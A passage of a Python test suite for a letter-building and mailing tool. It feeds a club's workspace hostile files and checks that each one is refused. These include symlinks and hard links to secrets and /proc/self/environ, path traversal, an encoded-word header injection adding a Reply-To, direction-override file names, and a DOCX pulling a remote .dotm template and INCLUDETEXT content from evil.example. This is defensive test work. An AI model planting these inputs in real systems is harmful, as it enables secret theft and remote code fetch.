"""A club's files tried as an attacker would: each case is one way past the club's folder.

The example workspace's club (bergen) is given hostile files; every case asserts what a user
would see: the command stops with the file (and line) to blame, nothing leaks into out/ or a
message, and the union's own letters go on.
"""

from __future__ import annotations

import email
import io
import os
import sqlite3
import subprocess
import sys
import zipfile
from email.policy import default
from pathlib import Path

import pytest
from click.testing import CliRunner
from docx import Document
from docx.oxml import parse_xml

from factories import make_letter
from lettersmith import confine
from lettersmith.cli import main
from lettersmith.deliver.message import Envelope, RefusedHeader, build_message
from lettersmith.model import Addressee, MailSettings
from lettersmith.render.docx_reference import BUILTIN_REFERENCE
from readback import pdf_text
from workspaces import copy_example

LETTER = "menneskehandel-2024"
ATTACHED_TEMPLATE = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)
CLUB_OUT = Path("out/clubs/bergen") / LETTER
SECRET = "hemmelig-passord-4711"


def run(root: Path, *args: str):
    return CliRunner().invoke(main, ["-w", str(root), *args])


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = copy_example(tmp_path / "ws")
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.txt").write_text(SECRET, encoding="utf-8")
    return root


def club_template(root: Path, text: str, name: str = "letter.html.j2") -> Path:
    path = root / "clubs" / "bergen" / "templates" / name
    path.write_text(text, encoding="utf-8")
    return path


def club_letter(root: Path, extra: str) -> None:
    """Add lines to the club's override of the letter (indented under it)."""
    path = root / "clubs" / "bergen.yaml"
    text = path.read_text(encoding="utf-8")
    marker = "  menneskehandel-2024:\n"
    path.write_text(text.replace(marker, marker + extra), encoding="utf-8")


def assert_fails(result, *parts: str) -> str:
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    for part in parts:
        assert part in result.output, result.output
    return result.output


# --------------------------------------------------------------------------- 1. symlinks


@pytest.mark.parametrize(
    "use",
    [
        '{% include "env.txt" %}',
        '{% import "env.txt" as env %}',
        '{% from "env.txt" import x %}',
        '{% extends "env.txt" %}',
    ],
)
def test_a_template_link_to_a_file_outside_is_refused(ws: Path, use: str) -> None:
    link = ws / "clubs" / "bergen" / "templates" / "env.txt"
    link.symlink_to(ws.parent / "outside" / "secret.txt")
    club_template(ws, '{% extends "builtin/letter.html.j2" %}{% block letterhead %}'
                  + use + "{% endblock %}" if "extends" not in use else use)  # fmt: skip
    output = assert_fails(
        run(ws, "build", LETTER, "--club", "bergen"),
        "clubs/bergen/templates/letter.html.j2:1: clubs/bergen/templates/env.txt: refused",
    )
    assert SECRET not in output
    assert not (ws / CLUB_OUT / f"{LETTER}.pdf").exists()


def test_a_template_linked_to_proc_environ_never_reaches_the_pdf(ws: Path, monkeypatch) -> None:
    monkeypatch.setenv("LETTERSMITH_SMTP_PASSWORD", SECRET)
    (ws / "clubs" / "bergen" / "templates" / "env.txt").symlink_to("/proc/self/environ")
    club_template(ws, '{% extends "builtin/letter.html.j2" %}'
                  '{% block letterhead %}{% include "env.txt" %}{% endblock %}')  # fmt: skip
    assert SECRET not in assert_fails(
        run(ws, "build", LETTER, "--club", "bergen", "--format", "pdf")
    )
    assert not (ws / CLUB_OUT / f"{LETTER}.pdf").exists()


def test_a_linked_stylesheet_is_refused(ws: Path) -> None:
    (ws / "clubs" / "bergen" / "templates" / "letter.css").symlink_to(ws / "lettersmith.yaml")
    assert_fails(run(ws, "check"), "clubs/bergen/templates/letter.css: refused")


def test_an_image_inside_a_club_svg_cannot_show_the_unions_private_files(ws: Path) -> None:
    private = ws / ".lettersmith" / "scan.png"
    private.parent.mkdir()
    private.write_bytes((ws / "clubs" / "bergen" / "assets" / "logo.png").read_bytes())
    (ws / "clubs" / "bergen" / "assets" / "logo.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        '<image href="../../../.lettersmith/scan.png" width="10" height="10"/></svg>',
        encoding="utf-8",
    )
    assert_fails(
        run(ws, "build", LETTER, "--club", "bergen", "--format", "pdf"),
        ".lettersmith/scan.png: refused",
    )


@pytest.mark.parametrize("href", ["/dev/zero", "zero"])
def test_an_svg_logo_showing_a_device_is_refused_without_reading_it(ws: Path, href) -> None:
    """The picture inside the logo counts in what leaves; a device there is never read."""
    assets = ws / "clubs" / "bergen" / "assets"
    (assets / "zero").symlink_to("/dev/zero")
    (assets / "logo.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        f'<image href="{href}" width="10" height="10"/></svg>',
        encoding="utf-8",
    )
    for command in (["check"], ["send", LETTER, "--club", "bergen", "--dry-run"]):
        result = subprocess.run(
            [sys.executable, "-m", "lettersmith", "-w", str(ws), *command],
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert result.returncode == 1, result.stdout + result.stderr
        assert "Traceback" not in result.stderr
        assert "zero" in result.stdout + result.stderr  # named, and not read: no hang


def test_a_club_logo_naming_the_settings_file_is_refused_at_check(ws: Path) -> None:
    path = ws / "clubs" / "bergen.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(
        text.replace("organisation:\n", "organisation:\n  logo: ../../lettersmith.yaml\n"),
        encoding="utf-8",
    )
    assert_fails(run(ws, "check"), "clubs/bergen.yaml:8: organisation.logo: '../../lettersmith")


def test_a_club_reference_docx_linked_from_outside_is_refused(ws: Path) -> None:
    outside = ws.parent / "outside" / "letter.docx"
    outside.write_bytes(BUILTIN_REFERENCE.read_bytes())
    (ws / "clubs" / "bergen" / "templates" / "letter.docx").symlink_to(outside)
    assert_fails(
        run(ws, "build", LETTER, "--club", "bergen", "--format", "docx"),
        "clubs/bergen/templates/letter.docx: refused",
    )


def test_a_club_asset_linked_to_the_unions_settings_is_not_attached(ws: Path) -> None:
    """The union attaches assets/vedlegg.pdf; the club's copy is a link to lettersmith.yaml."""
    (ws / "assets" / "vedlegg.pdf").write_bytes(b"%PDF-1.4 the union's attachment\n")
    path = ws / "letters" / f"{LETTER}.yaml"
    path.write_text(
        path.read_text(encoding="utf-8") + "attachments: [assets/vedlegg.pdf]\n", encoding="utf-8"
    )
    (ws / "clubs" / "bergen" / "assets" / "vedlegg.pdf").symlink_to(ws / "lettersmith.yaml")
    result = run(ws, "send", LETTER, "--club", "bergen", "--dry-run")
    assert result.exit_code == 0, result.output
    messages = list((ws / CLUB_OUT / "mail").glob("*.eml"))
    assert messages
    for path in messages:
        message = email.message_from_bytes(path.read_bytes(), policy=default)
        attached = {part.get_filename(): part.get_content() for part in message.iter_attachments()}
        assert attached["vedlegg.pdf"] == b"%PDF-1.4 the union's attachment\n"


def test_a_club_templates_folder_linked_outside_is_not_used(ws: Path) -> None:
    outside = ws.parent / "outside" / "templates"
    outside.mkdir()
    (outside / "letter.html.j2").write_text(SECRET, encoding="utf-8")
    templates = ws / "clubs" / "bergen" / "templates"
    for child in templates.iterdir():
        child.unlink()
    templates.rmdir()
    templates.symlink_to(outside)
    result = run(ws, "build", LETTER, "--club", "bergen", "--format", "pdf")
    assert result.exit_code == 0, result.output
    assert SECRET not in pdf_text(ws / CLUB_OUT / f"{LETTER}.pdf")


def test_a_club_docx_logo_linked_to_the_unions_private_files_is_refused(ws: Path) -> None:
    private = ws / ".lettersmith" / "scan.png"
    private.parent.mkdir()
    assets = ws / "clubs" / "bergen" / "assets"
    private.write_bytes((assets / "logo.png").read_bytes())
    (assets / "logo.png").unlink()
    (assets / "logo.png").symlink_to(private)
    assert_fails(
        run(ws, "build", LETTER, "--club", "bergen", "--format", "docx"),
        "the logo must be a file inside clubs/bergen/",
    )


def test_the_build_fingerprint_does_not_read_through_a_link(ws: Path) -> None:
    from lettersmith.render.build import _file_hash

    link = ws / "clubs" / "bergen" / "templates" / "zero"
    link.symlink_to(ws.parent / "outside" / "secret.txt")
    assert _file_hash(link) == f"link:{ws.parent / 'outside' / 'secret.txt'}"


# --------------------------------------------------------------------------- 1b. hard links


def hard_link(target: Path, link: Path) -> None:
    """``link`` made another name of ``target``: no symlink to see, one file with two names."""
    link.unlink(missing_ok=True)
    os.link(target, link)


def test_a_club_attachment_hard_linked_to_the_unions_settings_is_refused(ws: Path) -> None:
    hard_link(ws / "lettersmith.yaml", ws / "clubs" / "bergen" / "assets" / "vedlegg.pdf")
    club_letter(ws, "    attachments: [assets/vedlegg.pdf]\n")
    for command in (["check"], ["send", LETTER, "--club", "bergen", "--dry-run"]):
        assert_fails(run(ws, *command), "assets/vedlegg.pdf", "hard link", "copy the file instead")
    assert not list((ws / CLUB_OUT / "mail").glob("*.eml"))


def test_a_club_attachment_linked_at_check_is_refused_when_read(ws: Path) -> None:
    """Linked after ``check`` passed, just before the message is made: the read refuses it."""
    from lettersmith.deliver import message

    attached = ws / "clubs" / "bergen" / "assets" / "vedlegg.pdf"
    attached.write_bytes(b"%PDF-1.4 the club's own attachment\n")
    club_letter(ws, "    attachments: [assets/vedlegg.pdf]\n")
    original = message.read_attachment

    def swapped(path, letter):
        hard_link(ws / "lettersmith.yaml", attached)
        return original(path, letter)

    import unittest.mock

    with unittest.mock.patch.object(message, "read_attachment", swapped):
        assert_fails(run(ws, "send", LETTER, "--club", "bergen", "--dry-run"), "hard link")
    assert not list((ws / CLUB_OUT / "mail").glob("*.eml"))


def test_a_club_template_hard_linked_to_the_unions_settings_is_refused(ws: Path) -> None:
    hard_link(ws / "lettersmith.yaml", ws / "clubs" / "bergen" / "templates" / "env.txt")
    club_template(ws, '{% extends "builtin/letter.html.j2" %}'
                  '{% block letterhead %}{% include "env.txt" %}{% endblock %}')  # fmt: skip
    assert_fails(
        run(ws, "build", LETTER, "--club", "bergen", "--format", "pdf"),
        "clubs/bergen/templates/env.txt: refused",
        "hard link",
    )
    assert not (ws / CLUB_OUT / f"{LETTER}.pdf").exists()


@pytest.mark.parametrize("name, form", [("logo.svg", "pdf"), ("logo.png", "docx")])
def test_a_club_logo_hard_linked_to_a_file_outside_is_refused(ws: Path, name, form) -> None:
    logo = ws / "clubs" / "bergen" / "assets" / name
    outside = ws.parent / "outside" / name  # someone's picture, not the club's to show
    outside.write_bytes(logo.read_bytes())
    hard_link(outside, logo)
    assert_fails(
        run(ws, "build", LETTER, "--club", "bergen", "--format", form),
        f"clubs/bergen/assets/{name}",
        "hard link",
    )
    assert not (ws / CLUB_OUT / f"{LETTER}.{form}").exists()


def test_a_hard_linked_club_file_is_refused_when_clubs_is_a_link_to_a_shared_folder(
    ws: Path,
) -> None:
    """clubs/ kept in a shared (synced) folder and linked into the workspace: a club's files
    are still the club's, held to one name each."""
    import shutil

    shared = ws.parent / "shared-clubs"
    shutil.move(ws / "clubs", shared)
    (ws / "clubs").symlink_to(shared)
    logo = shared / "bergen" / "assets" / "logo.svg"
    outside = ws.parent / "outside" / "logo.svg"  # someone's picture, not the club's to show
    outside.write_bytes(logo.read_bytes())
    hard_link(outside, logo)
    result = run(ws, "build", LETTER, "--club", "bergen", "--format", "pdf")
    assert_fails(result, "bergen/assets/logo.svg", "hard link")
    assert not (ws / CLUB_OUT / f"{LETTER}.pdf").exists()


def test_a_club_folder_linked_to_another_clubs_folder_does_not_reach_its_files(
    ws: Path,
) -> None:
    """clubs/bergen/ made a link to clubs/oslo/: still inside clubs/, but Oslo's files are not
    Bergen's to attach or show."""
    import shutil

    oslo = ws / "clubs" / "oslo"
    shutil.move(ws / "clubs" / "bergen", oslo)
    (oslo / "assets" / "vedlegg.pdf").write_bytes(f"%PDF-1.4 Oslo's own {SECRET}\n".encode())
    (ws / "clubs" / "bergen").symlink_to("oslo")
    club_letter(ws, "    attachments: [assets/vedlegg.pdf]\n")
    for command in (["check"], ["send", LETTER, "--club", "bergen", "--dry-run"]):
        assert_fails(run(ws, *command), "clubs/bergen/: is a link to", "put the folder itself")
    for eml in (ws / "out").rglob("*.eml"):
        assert SECRET not in eml.read_text(encoding="utf-8", errors="replace")


def test_a_club_font_hard_linked_after_check_is_not_embedded_in_the_docx(ws: Path) -> None:
    """The club's font passed the look at loading, then became a second name of a font file
    outside (not the club's to hand out): the DOCX that embeds it judges the file it opens."""
    import shutil
    import unittest.mock

    from lettersmith.render import docx
    from lettersmith.render.style import FONT_DIR

    font = ws / "clubs" / "bergen" / "assets" / "MinFont.ttf"
    shutil.copyfile(FONT_DIR / "IBMPlexSans-Regular.ttf", font)
    outside = ws.parent / "outside" / "Licensed.ttf"
    shutil.copyfile(FONT_DIR / "IBMPlexSerif-Regular.ttf", outside)
    path = ws / "clubs" / "bergen.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("organisation:\n", "organisation:\n  font: assets/MinFont.ttf\n"))
    original = docx.embed_fonts

    def linked_then_embedded(*args, **kwargs):
        hard_link(outside, font)
        return original(*args, **kwargs)

    with unittest.mock.patch.object(docx, "embed_fonts", linked_then_embedded):
        result = run(ws, "build", LETTER, "--club", "bergen", "--format", "docx", "--jobs", "1")
    assert_fails(result, "MinFont.ttf", "hard link")
    assert not (ws / CLUB_OUT / f"{LETTER}.docx").exists()


@pytest.mark.parametrize("name", ["logo.svg", "logo.png"])
def test_check_finds_a_club_logo_that_is_a_hard_link(ws: Path, name: str) -> None:
    """The club's own logo, used without being named in clubs/bergen.yaml: check tells what
    build and send would refuse."""
    logo = ws / "clubs" / "bergen" / "assets" / name
    outside = ws.parent / "outside" / name
    outside.write_bytes(logo.read_bytes())
    hard_link(outside, logo)
    assert_fails(run(ws, "check"), f"clubs/bergen/assets/{name}: refused", "hard link")


@pytest.mark.parametrize(
    ("name", "declare", "command"),
    [
        ("templates/letter.css", None, ("build", LETTER, "--club", "bergen", "--format", "pdf")),
        ("templates/letter.docx", None, ("build", LETTER, "--club", "bergen", "--format", "docx")),
        ("assets/sig.png", ("title: Klubbpresident}", "title: Klubbpresident, "
                            "signature: assets/sig.png}"), ("check",)),
        ("assets/MinFont.ttf", ("organisation:\n", "organisation:\n  font: assets/MinFont.ttf\n"),
         ("check",)),
        ("../bergen.yaml", None, ("check",)),
    ],
)  # fmt: skip
def test_every_kind_of_club_file_that_is_a_hard_link_is_refused(
    ws: Path, name: str, declare: tuple[str, str] | None, command: tuple[str, ...]
) -> None:
    """A second name of a file outside the club's folder, whatever the club uses it for."""
    from lettersmith.render.style import FONT_DIR

    path = ws / "clubs" / "bergen" / name
    outside = ws.parent / "outside" / path.name
    contents = {
        "letter.css": b"body { color: #222; }\n",
        "letter.docx": BUILTIN_REFERENCE.read_bytes(),
        "sig.png": (ws / "assets" / "signature.png").read_bytes(),
        "MinFont.ttf": (FONT_DIR / "IBMPlexSans-Regular.ttf").read_bytes(),
    }
    outside.write_bytes(contents.get(path.name) or path.read_bytes())
    if declare:
        club = ws / "clubs" / "bergen.yaml"
        club.write_text(club.read_text(encoding="utf-8").replace(*declare), encoding="utf-8")
    hard_link(outside, path)
    assert_fails(run(ws, *command), path.name, "hard link")
    assert not (ws / CLUB_OUT).exists()


def test_the_unions_own_hard_linked_files_are_used(ws: Path) -> None:
    """Only a club's files are held to one link: the union's are its own to arrange."""
    (ws / "assets" / "vedlegg.pdf").write_bytes(b"%PDF-1.4 the union's attachment\n")
    hard_link(ws / "assets" / "vedlegg.pdf", ws.parent / "outside" / "vedlegg.pdf")
    path = ws / "letters" / f"{LETTER}.yaml"
    path.write_text(
        path.read_text(encoding="utf-8") + "attachments: [assets/vedlegg.pdf]\n", encoding="utf-8"
    )
    result = run(ws, "send", LETTER, "--dry-run")
    assert result.exit_code == 0, result.output


# --------------------------------------------------------------------------- 2. headers

ENCODED = "Uttalelse =?utf-8?q?=0D=0AReply-To:_x@evil.example=0D=0A=0D=0ATrukket_tilbake?="


@pytest.mark.parametrize(
    ("line", "field"),
    [
        (f"    subject: '{ENCODED}'\n", "subject"),
        ('    subject: "Uttalelse \\u202Egnp.exe"\n', "subject"),
        ('    place: "Bergen\\u2066"\n', "place"),
    ],
)
def test_encoded_words_and_direction_controls_are_refused_at_check(ws, line, field) -> None:
    club_letter(ws, line)
    assert_fails(run(ws, "check"), f"clubs/bergen.yaml:32: letters.menneskehandel-2024.{field}: ")


@pytest.mark.parametrize("name", [f"'{ENCODED}'", '"Marte \\u202EnesreP"'])
def test_an_encoded_word_in_a_recipient_name_is_refused_at_check(ws: Path, name: str) -> None:
    path = ws / "clubs" / "bergen.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("Marte Mjøs Persen", name), encoding="utf-8")
    assert_fails(run(ws, "check"), "clubs/bergen.yaml:25: recipients.ordforer-bergen.name: ")


@pytest.mark.parametrize("name", [f"{ENCODED}.pdf", "vedlegg\u202efdp.exe", "a\nb.pdf"])
def test_an_attachment_file_name_that_would_make_a_header_is_refused_at_check(ws, name) -> None:
    (ws / "clubs" / "bergen" / "assets" / name).write_bytes(b"%PDF-1.4\n")
    (ws / "clubs" / "bergen" / "assets" / "vedlegg.pdf").symlink_to(name)
    club_letter(ws, "    attachments: [assets/vedlegg.pdf]\n")
    output = assert_fails(run(ws, "check"), "clubs/bergen.yaml:32: ")
    assert "the file name" in output


def test_a_message_never_carries_a_header_from_an_encoded_word(tmp_path: Path) -> None:
    """Bypassing check (a letter made in code): the message is refused, on any Python."""
    pdf = tmp_path / "letter.pdf"
    pdf.write_bytes(b"%PDF-1.4\n")
    letter = make_letter(tmp_path, subject=ENCODED)
    addressee = Addressee("smk", ("Statsministeren",), "postmottak@smk.dep.no", "Statsminister")
    envelope = Envelope.from_settings(MailSettings(sender="SI Norge <post@example.org>"))
    with pytest.raises(RefusedHeader, match="subject"):
        build_message(letter, addressee, envelope, pdf)


def test_a_non_ascii_local_part_is_refused_at_check_with_the_reason(ws: Path) -> None:
    path = ws / "clubs" / "bergen.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("postmottak@bergen.kommune.no", "bjørn@x.no"), encoding="utf-8")
    assert_fails(run(ws, "check"), "clubs/bergen.yaml:26: ", "outside ASCII")


# --------------------------------------------------------------------------- 3. the statement

EXTENDS = '{% extends "builtin/letter.html.j2" %}'


@pytest.mark.parametrize(
    "template",
    [
        EXTENDS + "{% block content %}<p>{{ letter.title|replace('er', 'er ikke') }}</p>"
        "{% endblock %}",
        EXTENDS + "{% block content %}{{ letter.body }}{% endblock %}",
    ],
)
def test_a_club_template_cannot_rewrite_the_statement(ws: Path, template: str) -> None:
    club_template(ws, template)
    assert_fails(
        run(ws, "build", LETTER, "--club", "bergen", "--format", "pdf"),
        "clubs/bergen/templates/letter.html.j2",
    )
    assert not (ws / CLUB_OUT / f"{LETTER}.pdf").exists()


@pytest.mark.parametrize(
    "css",
    [
        ".body p:first-child { display: none }",
        '.body p:first-child::before { content: "ikke " }',
        ".title { text-transform: uppercase }",
    ],
)
def test_a_club_stylesheet_that_hides_or_adds_words_fails_the_build(ws: Path, css: str) -> None:
    club_template(ws, EXTENDS + "{% block style %}{{ super() }}\n" + css + "{% endblock %}")
    assert_fails(
        run(ws, "build", LETTER, "--club", "bergen", "--format", "pdf"),
        "clubs/bergen/templates/letter.html.j2: the statement must be readable as adopted: "
        "the PDF of menneskehandel-2024 does not show the adopted title and body word for word",
    )
    assert not (ws / CLUB_OUT / f"{LETTER}.pdf").exists()


def test_diff_shows_a_clubs_change_of_position_and_attachments(ws: Path) -> None:
    other = ws / "positions" / "annen-sak.md"
    text = (ws / "positions" / f"{LETTER}.md").read_text(encoding="utf-8")
    other.write_text(text.replace("Tiden er inne", "Tiden er ikke inne"), encoding="utf-8")
    (ws / "clubs" / "bergen" / "assets" / "brosjyre.pdf").write_bytes(b"%PDF-1.4\n")
    club_letter(ws, "    position: annen-sak\n    attachments: [assets/brosjyre.pdf]\n")
    result = run(ws, "diff", LETTER, "--club", "bergen")
    assert result.exit_code == 0, result.output
    assert f"position: [-{LETTER}-]{{+annen-sak+}}" in result.output
    assert "title: Tiden er {+ikke+} inne" in result.output
    assert "attachments: {+brosjyre.pdf+}" in result.output


# --------------------------------------------------------------------------- 4. attachments


@pytest.mark.parametrize(
    "names",
    [["menneskehandel-2024.pdf"], ["Menneskehandel-2024.PDF"], ["a/vedlegg.pdf", "vedlegg.pdf"]],
)
def test_a_club_attachment_cannot_pass_for_the_statement_or_another(ws: Path, names) -> None:
    """A second file named as the statement's own PDF (a fake statement beside the real one),
    or two attachments of one name: the ministry could not tell which is which."""
    for name in names:
        path = ws / "clubs" / "bergen" / "assets" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"%PDF-1.4 a fake statement\n")
    listed = ", ".join(f"assets/{name}" for name in names)
    club_letter(ws, f"    attachments: [{listed}]\n")
    for command in (["check"], ["send", LETTER, "--club", "bergen", "--dry-run"]):
        assert_fails(
            run(ws, *command), "clubs/bergen.yaml:", "letters.menneskehandel-2024.attachments"
        )
    assert not list((ws / "out").rglob("*.eml"))


@pytest.mark.parametrize(
    "path", ["../../.lettersmith/journal.sqlite", "../../lettersmith.yaml", "../../assets/logo.svg"]
)
def test_a_club_attaches_only_files_from_its_own_folder(ws: Path, path: str) -> None:
    (ws / ".lettersmith").mkdir()
    (ws / ".lettersmith" / "journal.sqlite").write_bytes(b"SQLite format 3\0")
    club_letter(ws, f"    attachments: [{path}]\n")
    assert_fails(run(ws, "check"), "clubs/bergen.yaml:32: letters.menneskehandel-2024.attachments")


# --------------------------------------------------------------------------- 5. bounded cost


@pytest.fixture
def tight(monkeypatch):
    """Limits small enough for a test to pass them in seconds."""
    monkeypatch.setattr(confine, "RENDER_SECONDS", 4)
    monkeypatch.setattr(confine, "RENDER_MEMORY", 400_000_000)


def test_a_template_past_the_memory_limit_is_stopped(ws: Path, tight) -> None:
    club_template(ws, EXTENDS + '{% block letterhead %}{% set s = "x" * 30000 %}'
                  '{{ s|replace("x", s)|length }}{% endblock %}')  # fmt: skip
    assert_fails(
        run(ws, "build", LETTER, "--club", "bergen", "--format", "pdf"),
        "clubs/bergen/templates/letter.html.j2:1: stopped: ",
        "more than 400 MB of memory",
    )


def test_a_layout_past_the_time_limit_is_stopped(ws: Path, tight) -> None:
    club_template(ws, EXTENDS + "{% block after_signature %}{% for i in range(9000) %}"
                  "<p>{{ i }}</p>{% endfor %}{% endblock %}")  # fmt: skip
    assert_fails(
        run(ws, "build", LETTER, "--club", "bergen", "--format", "pdf"),
        "clubs/bergen/templates/letter.html.j2: stopped: ",
        "longer than 4 seconds",
    )


def test_a_letter_past_the_page_limit_is_stopped(ws: Path) -> None:
    club_template(ws, EXTENDS + "{% block after_signature %}{% for i in range(55) %}"
                  '<p style="break-after: page">{{ i }}</p>{% endfor %}{% endblock %}')  # fmt: skip
    assert_fails(
        run(ws, "build", LETTER, "--club", "bergen", "--format", "pdf"),
        "pages, more than the limit of 50",
    )


def test_a_template_past_the_size_limit_is_refused_unread(ws: Path) -> None:
    club_template(ws, EXTENDS + "{# " + "x" * confine.MAX_TEMPLATE + " #}")
    assert_fails(
        run(ws, "check"),
        "clubs/bergen/templates/letter.html.j2: the template is",
        "limit of 256 kB",
    )


def test_a_club_file_past_the_size_limit_is_refused_unread(ws: Path) -> None:
    path = ws / "clubs" / "bergen.yaml"
    padding = ("# " + "x" * 98 + "\n") * (confine.MAX_CLUB_YAML // 100 + 1)
    path.write_text(path.read_text(encoding="utf-8") + padding, encoding="utf-8")
    assert_fails(run(ws, "check"), "clubs/bergen.yaml: the file is", "limit of 1.0 MB")


def test_an_attachment_past_the_size_limit_is_refused_at_check(ws: Path) -> None:
    sparse = ws / "clubs" / "bergen" / "assets" / "stor.pdf"
    with sparse.open("wb") as handle:
        handle.truncate(confine.MAX_ATTACHMENT + 1)
    club_letter(ws, "    attachments: [assets/stor.pdf]\n")
    assert_fails(run(ws, "check"), "clubs/bergen.yaml:32: ", "limit of 20.0 MB")


def test_a_reference_docx_hiding_a_huge_part_is_refused_unpacked(ws: Path) -> None:
    data = io.BytesIO(BUILTIN_REFERENCE.read_bytes())
    with zipfile.ZipFile(data, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/media/huge.bin", b"\0" * (confine.MAX_REFERENCE_UNPACKED + 1))
    (ws / "clubs" / "bergen" / "templates" / "letter.docx").write_bytes(data.getvalue())
    assert_fails(
        run(ws, "build", LETTER, "--club", "bergen", "--format", "docx"),
        "clubs/bergen/templates/letter.docx: the Word document unpacks to",
    )


# --------------------------------------------------------------------------- 6. DOCX fetching


def test_a_club_reference_docx_reaches_no_network(ws: Path) -> None:
    doc = Document(str(BUILTIN_REFERENCE))
    settings = doc.part._settings_part
    rid = settings.relate_to("http://evil.example/t.dotm", ATTACHED_TEMPLATE, is_external=True)
    settings.element.append(
        parse_xml(
            '<w:attachedTemplate xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
            'main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
            f'r:id="{rid}"/>'
        )
    )
    header = doc.sections[0].header
    header._element.append(
        parse_xml(
            '<w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/p.png\" \\d '>"
            "<w:r><w:t>x</w:t></w:r></w:fldSimple>"
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText> INCLUDETEXT "http://evil.example/t.txt" </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    )
    doc.save(str(ws / "clubs" / "bergen" / "templates" / "letter.docx"))
    result = run(ws, "build", LETTER, "--club", "bergen", "--format", "docx")
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(ws / CLUB_OUT / f"{LETTER}.docx") as package:
        everything = b"".join(package.read(name) for name in package.namelist())
    assert b"evil.example" not in everything
    assert b"INCLUDE" not in everything


def test_a_club_reference_docx_cannot_hide_the_statement_with_a_style(ws: Path) -> None:
    doc = Document(str(BUILTIN_REFERENCE))
    for name in ("Body Text", "Letter Title"):
        doc.styles[name].font.hidden = True
    doc.save(str(ws / "clubs" / "bergen" / "templates" / "letter.docx"))
    result = run(ws, "build", LETTER, "--club", "bergen", "--format", "docx")
    assert result.exit_code == 0, result.output
    built = Document(str(ws / CLUB_OUT / f"{LETTER}.docx"))
    assert not built.styles["Body Text"].font.hidden
    assert not built.styles["Letter Title"].font.hidden


# --------------------------------------------------------------------------- 7. out/ links


def test_build_does_not_write_through_a_link_out_of_out(ws: Path) -> None:
    elsewhere = ws.parent / "elsewhere"
    elsewhere.mkdir()
    (ws / "out" / "clubs").mkdir(parents=True)
    (ws / "out" / "clubs" / "bergen").symlink_to(elsewhere)
    assert_fails(run(ws, "build", LETTER, "--club", "bergen"), "out/clubs/bergen: is a link to")
    assert list(elsewhere.iterdir()) == []


def test_a_dry_run_does_not_delete_through_a_link_out_of_out(ws: Path) -> None:
    elsewhere = ws.parent / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "keep.eml").write_text("mine")
    (ws / "out" / LETTER).mkdir(parents=True)
    (ws / "out" / LETTER / "mail").symlink_to(elsewhere)
    assert_fails(run(ws, "send", LETTER, "--dry-run"), f"out/{LETTER}/mail: is a link to")
    assert (elsewhere / "keep.eml").read_text() == "mine"


def test_review_does_not_write_through_a_link_out_of_out(ws: Path) -> None:
    elsewhere = ws.parent / "elsewhere"
    elsewhere.mkdir()
    (ws / "out").mkdir()
    (ws / "out" / LETTER).symlink_to(elsewhere)
    assert_fails(run(ws, "review", LETTER), f"out/{LETTER}: is a link to")
    assert list(elsewhere.iterdir()) == []


# --------------------------------------------------------------------------- 8. one broken club


def test_a_broken_club_does_not_stop_the_union_or_another_club(ws: Path) -> None:
    (ws / "clubs" / "broken.yaml").write_text("name: [unclosed\n", encoding="utf-8")
    for args in (("status", LETTER), ("build", LETTER, "--format", "docx"),
                 ("status", LETTER, "--club", "bergen")):  # fmt: skip
        result = run(ws, *args)
        assert result.exit_code == 0, result.output
        warnings = [line for line in result.output.splitlines() if "broken" in line]
        assert warnings == [
            "warning: clubs/broken.yaml has problems, so club 'broken' is left out; "
            "`lettersmith check` shows them"
        ]
    assert_fails(run(ws, "status", LETTER, "--club", "broken"), "clubs/broken.yaml:2")
    assert_fails(run(ws, "check"), "clubs/broken.yaml:2")


# --------------------------------------------------------------------------- 9. smaller ones


def test_an_include_not_found_names_the_line_that_includes_it(ws: Path) -> None:
    club_template(ws, EXTENDS + '{% block letterhead %}\n\n{% include "nope.html" %}{% endblock %}')
    assert_fails(
        run(ws, "check"), "clubs/bergen/templates/letter.html.j2:3: nope.html: template not found"
    )


# --------------------------------------------------------------------------- portability


def test_the_package_imports_without_posix_modules() -> None:
    """As on Windows: no fcntl, no resource."""
    code = (
        "import sys; sys.modules['fcntl'] = None; sys.modules['resource'] = None\n"
        "import lettersmith.cli, lettersmith.deliver.send, lettersmith.deliver.journal\n"
        "import lettersmith.render.templates, lettersmith.render.worker, lettersmith.render.build\n"
        "print('ok')\n"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert result.stdout.strip() == "ok", result.stderr


def test_on_macos_the_worker_is_spawned_and_counts_bytes(monkeypatch) -> None:
    from lettersmith.render import worker

    class Usage:
        ru_maxrss = 300 * 1024 * 1024  # bytes on macOS

    monkeypatch.setattr(worker.sys, "platform", "darwin")
    monkeypatch.setattr(worker.resource, "getrusage", lambda who: Usage())
    assert worker._start_method() == "spawn"  # macOS's system libraries dislike fork
    assert worker._peak_bytes() == 300 * 1024 * 1024


def test_macos_counts_peak_memory_in_bytes(monkeypatch) -> None:
    from lettersmith.render import templates

    class Usage:
        ru_maxrss = 300 * 1024 * 1024  # 300 MB, as macOS reports it: in bytes

    monkeypatch.setattr(templates.sys, "platform", "darwin")
    monkeypatch.setattr(templates.resource, "getrusage", lambda who: Usage())
    assert templates._rss_kb() == 300 * 1024


# --------------------------------------------------------------------------- error boundaries


def snapshot(root: Path) -> dict[str, bytes]:
